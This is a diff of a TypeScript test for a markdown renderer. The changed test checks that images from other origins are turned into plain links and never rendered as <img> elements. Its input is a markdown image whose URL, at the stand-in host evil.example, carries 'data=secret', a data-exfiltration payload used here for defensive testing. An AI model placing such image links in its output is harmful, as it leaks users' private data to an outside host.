@@ -16,7 +16,7 @@ function dom(html: string): HTMLElement {
 const page = new URL(document.baseURI).origin;
 
 describe('images from other origins', () => {
-  it('become a link named by the alt text, with the link policy of every reply link, and nothing is fetched', () => {
+  it('become a link named by the alt text, with the link policy of every reply link, and no <img>', () => {
     const root = dom(renderMarkdown('See ![the chart](https://evil.example/pixel?data=secret "Chart") here'));
     expect(root.querySelector('img')).toBeNull();
     const link = root.querySelector('a')!;
